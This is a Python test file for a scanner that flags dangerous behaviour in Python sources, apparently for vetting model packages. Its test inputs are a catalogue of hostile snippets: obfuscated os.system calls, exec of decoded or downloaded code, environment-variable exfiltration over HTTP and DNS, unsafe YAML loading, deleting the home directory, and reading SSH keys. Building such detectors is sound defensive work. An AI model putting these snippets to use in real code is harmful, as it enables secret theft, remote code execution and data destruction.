"""What a Python source reaches for is found through aliases, look-ups and constants that are put together."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ancile.formats.python_source import LARGEST, parse

NOW = [
    "import os\nos.system('x')",
    "from os import system as s\ns('x')",
    "import os as o\nf = o.popen\nf('x')",
    "__import__('os').system('x')",
    "import importlib\nimportlib.import_module('sub' + 'process').run(['x'])",
    "import os\ngetattr(os, 'sys' + 'tem')('x')",
    "import os\ngetattr(os, 'metsys'[::-1])('x')",
    "import os\ngetattr(os, name)('x')",
    "import sys\nsys.modules['os'].system('x')",
    "__builtins__['eval']('x')",
    "globals()['__builtins__'].exec('x')",
    "import base64\nexec(base64.b64decode('cGFzcw=='))",
    "().__class__.__base__.__subclasses__()",
    "import socket\nsocket.socket()",
    "import os\nlist(map(os.system, ['x']))",
    "import os\nclass A:\n    os.system('x')",
    "import os\ndef f():\n    os.system('x')\nf()",
    "import os\ndef f(x=os.system('y')):\n    pass",
    "import os\nclass A:\n    def __init__(self):\n        os.system('x')",
    "__import__(''.join(map(chr, [111, 115]))).system('x')",
    "__import__('%s' % 'os').system('x')",
    "from os import *\nsystem('x')",
    "import pickle\npickle.loads(b'x')",
    "import ctypes\nctypes.CDLL('./x')",
    "vars(__import__('os'))['system']('x')",
    "# -*- coding: rot13 -*-\nimport x",
    "__import__(x)",
    "import operator, os\noperator.methodcaller('system', 'x')(os)",
    "import operator, os\noperator.attrgetter('popen')(os)('x')",
    "import os\n[f('x') for n, f in vars(os).items() if n == 'system']",
    "exec(bytes.fromhex('70617373'))",
]
ORDINARY = [
    "import os\np = os.path.join('a', 'b')\nos.makedirs(p, exist_ok=True)",
    "import torch\nclass M(torch.nn.Module):\n    def forward(self, x):\n        return x",
    "model.eval()\ndf.eval('a + b')\nre.compile('x')",
    "eval\nexec\nimport_x",
    "'''exec os.system'''\nimport json",
    "import os\nif os.environ.get('A'):\n    print(getattr(os, 'name'))",
    '{"exec": 1, "import os": 2}',
]


HIDDEN = [
    "import torch\ntorch.os.system('x')",
    "from shutil import os\nos.system('x')",
    "import random\nrandom._os.system('x')",
    "def f():\n    import base64\n    exec(base64.b64decode(x))",
    "def f():\n    k = bytes(b ^ 7 for b in x)\n    exec(k)",
    "def f():\n    exec(''.join(map(chr, x)))",
    "import urllib.request as u\ndef f():\n    exec(u.urlopen('x').read())",
    "import requests, os\ndef f():\n    requests.post('x', json=dict(os.environ))",
    "import socket, os\ndef f():\n    socket.gethostbyname(os.environ['A'] + '.x')",
    "import requests, os\ne = os.environ.copy()\nrequests.post('x', json=e)",
    "import socket, os\nfor k, v in os.environ.items():\n    socket.gethostbyname(v + '.x')",
    "import sys, types\nsys.modules['torch'] = types.ModuleType('torch')",
    "import builtins\nbuiltins.open = lambda *a: None",
    "def f(): pass\nf.__code__ = g",
    "import yaml\nyaml.load('!!python/object/apply:os.system [x]', Loader=y)",
    "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
    "print.__self__.__dict__['exec']('x')",
    "(lambda: 0).__globals__['__builtins__']['exec']('x')",
    "def f():\n    eval('__import__(\"os\").system(x)')",
]
ALIASED = [
    "import os\n[os][0].system('x')",
    "import os\nfor m in (os,):\n    m.system('x')",
    "import os\ndef g():\n    return os\ng().system('x')",
    "import os\nD = {'a': os.system}\nD['a']('x')",
    "i = __import__\ni('os').system('x')",
    "(o := __import__('os')).system('x')",
    "get_ipython().system('x')",
    "import os\nos.environ['LD_PRELOAD'] = 'x'",
    "import sys\nsys.path.append('weights.zip')",
    "open('/etc/x', 'w')",
    "from pathlib import Path\n(Path.home() / 'x').write_text('y')",
]
LIBRARIES = [
    "import ctypes\nlib = ctypes.CDLL(None)\nother = ctypes.CDLL('libc.so.6')",
    "import subprocess\nclass Pool:\n    def start(self):\n        subprocess.Popen(['x'])",
    "def f(frame):\n    return frame.f_globals, f.__globals__, type(f).__subclasses__()",
    "import atexit, types\natexit.register(print)\nisinstance(1, types.FunctionType)",
    "exec(open('pkg/version.py').read())",
    "import pip._vendor.rich.console\npip._vendor.rich.console.Console()",
]


@pytest.mark.parametrize("text", HIDDEN)
def test_what_hides_what_it_does_is_told_wherever_it_stands(text: str) -> None:
    assert any(one.hidden for one in parse(text).reaches)


@pytest.mark.parametrize("text", ALIASED)
def test_names_are_followed_through_what_holds_them(text: str) -> None:
    assert any(one.now for one in parse(text, is_source=True).reaches)


@pytest.mark.parametrize("text", LIBRARIES)
def test_what_libraries_do_is_neither_hidden_nor_done_on_import(text: str) -> None:
    assert not any(one.hidden or one.when == "import" for one in parse(text).reaches)


@pytest.mark.parametrize(
    ("text", "when"),
    [
        ("class M(nn.Module):\n    def forward(self, x):\n        {}", "hook"),
        (
            "class M(nn.Module):\n    def forward(self, x):\n        self.g()\n    def g(self):\n        {}",
            "hook",
        ),
        ("class M(PreTrainedModel):\n    def g(self):\n        {}", "hook"),
        ("class H:\n    def handle(self, x):\n        {}", "hook"),
        ("@bentoml.service\nclass S:\n    def rank(self, x):\n        {}", "hook"),
        ("def init():\n    pass\ndef run(x):\n    {}", "hook"),
        ("class A:\n    def __del__(self):\n        {}", "start"),
        ("class A:\n    def __init__(self):\n        {}\nA()", "import"),
        ("class A:\n    def g(self):\n        {}", "later"),
        ("def run(x):\n    {}", "later"),
    ],
)
def test_when_a_function_runs_is_told(text: str, when: str) -> None:
    source = "import os\n" + text.replace("{}", "os.system('x')")
    assert {one.when for one in parse(source).reaches} == {when}


@pytest.mark.parametrize("text", NOW)
def test_what_reaches_out_when_it_is_imported_is_told(text: str) -> None:
    assert any(one.now for one in parse(text).reaches)


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_sources_reach_for_nothing(text: str) -> None:
    found = parse(text)
    assert not found.reaches
    assert not found.private
    assert not found.fault


@pytest.mark.parametrize(
    "text",
    [
        "import os\ndef later():\n    os.system('x')",
        "import os\nif __name__ == '__main__':\n    os.system('x')",
    ],
)
def test_what_waits_for_a_call_is_told_apart(text: str) -> None:
    assert [one.now for one in parse(text).reaches] == [False]


def test_loading_without_care_is_told() -> None:
    text = "import torch\ntorch.load('x', weights_only=False)\ntorch.load('x', weights_only=True)"
    assert [one.line for one in parse(text).reaches] == [2]


def test_imports_and_private_places_are_told() -> None:
    found = parse("import torch.nn, os\nfrom x.y import z\nfrom . import w\nopen('/root/.ssh/id_rsa')")
    assert found.imports == {"torch", "os", "x"}
    assert found.private


def test_what_does_not_parse_is_a_fault() -> None:
    assert parse("import os os").fault
    assert parse("import x\n" + "(" * 10_000).fault
    assert parse("import x\n" + "1+" * 100_000 + "1").fault
    assert parse("import x\n" + " " * LARGEST).fault
    assert parse("import x\0").fault


@pytest.mark.parametrize(
    "expression",
    [
        "'%999999999d' % 1",
        "'%*d' % (999999999, 1)",
        "b'x'.encode()",
        "'x'.decode()",
        "('x' * 9).join",
        "'" + "x" * 60000 + "'.replace('x', '" + "y" * 60000 + "')",
    ],
)
def test_constants_that_would_fill_memory_or_mean_nothing_are_left_alone(expression: str) -> None:
    assert not parse(f"import os\nx = print({expression})").fault


@given(st.sampled_from(NOW + ORDINARY), st.text(max_size=20), st.integers(0, 80))
def test_no_change_of_a_source_raises_anything(source: str, text: str, at: int) -> None:
    parse(source[:at] + text + source[at:])
